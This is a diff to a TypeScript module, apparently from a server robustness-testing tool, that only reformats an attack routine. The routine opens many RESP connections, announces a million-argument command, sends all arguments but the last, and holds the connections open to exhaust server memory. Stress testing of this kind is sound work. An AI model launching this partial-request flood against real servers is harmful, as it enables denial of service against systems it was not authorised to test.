@@ -14,14 +14,19 @@ interface Held {
 
 export const respPartialArgs: Attack = {
   name: 'resp-partial-args',
-  summary: 'N RESP connections each send `*1048576\\r\\n` and 1,048,575 × `$0\\r\\n\\r\\n` (no token), never the last argument, and hold the connection open for S seconds.',
+  summary:
+    'N RESP connections each send `*1048576\\r\\n` and 1,048,575 × `$0\\r\\n\\r\\n` (no token), never the last argument, and hold the connection open for S seconds.',
   maxSeconds: (settings) => settings.partialSeconds + 30,
   async run(context: AttackContext): Promise<AttackFindings> {
     const { settings, server } = context;
     const tally = new StatusTally();
     const emptyArg = Buffer.from('$0\r\n\r\n');
-    const payload = Buffer.concat([Buffer.from(`*${settings.partialArgs}\r\n`), Buffer.alloc(emptyArg.length * (settings.partialArgs - 1))]);
-    for (let offset = payload.indexOf('\n') + 1; offset < payload.length; offset += emptyArg.length) emptyArg.copy(payload, offset);
+    const payload = Buffer.concat([
+      Buffer.from(`*${settings.partialArgs}\r\n`),
+      Buffer.alloc(emptyArg.length * (settings.partialArgs - 1)),
+    ]);
+    for (let offset = payload.indexOf('\n') + 1; offset < payload.length; offset += emptyArg.length)
+      emptyArg.copy(payload, offset);
     const started = performance.now();
     const held: Held[] = [];
     for (let index = 0; index < settings.partialConnections; index++) {
@@ -45,7 +50,8 @@ export const respPartialArgs: Attack = {
     for (const entry of held) {
       // What left this process: written minus what is still queued locally.
       accepted += entry.socket.bytesWritten - entry.socket.writableLength;
-      if (entry.replyText.startsWith('-')) tally.resp({ kind: 'error', text: entry.replyText.split('\r\n')[0]!.slice(1), bytes: 0 });
+      if (entry.replyText.startsWith('-'))
+        tally.resp({ kind: 'error', text: entry.replyText.split('\r\n')[0]!.slice(1), bytes: 0 });
       else if (entry.closedAfterMs !== undefined) tally.failure(entry.error ?? 'closed without a reply');
       else tally.failure('still waiting (no reply) at the end');
     }
@@ -55,8 +61,14 @@ export const respPartialArgs: Attack = {
       tried: `${settings.partialConnections} connections × ${mib(payload.length)} (${settings.partialArgs - 1} of ${settings.partialArgs} arguments), held ${settings.partialSeconds} s`,
       tally,
       details: [
-        ['bytes the server took off the sockets (all connections)', `${mib(accepted)} of ${mib(payload.length * held.length)}`],
-        ['connections closed from the server\'s side', `${closed.length}${closed.length > 0 ? ` (first after ${(Math.min(...closed.map((entry) => entry.closedAfterMs!)) / 1000).toFixed(1)} s)` : ''}`],
+        [
+          'bytes the server took off the sockets (all connections)',
+          `${mib(accepted)} of ${mib(payload.length * held.length)}`,
+        ],
+        [
+          "connections closed from the server's side",
+          `${closed.length}${closed.length > 0 ? ` (first after ${(Math.min(...closed.map((entry) => entry.closedAfterMs!)) / 1000).toFixed(1)} s)` : ''}`,
+        ],
         ['first reply seen', held.find((entry) => entry.replyText !== '')?.replyText.split('\r\n')[0] ?? '(none)'],
       ],
     };
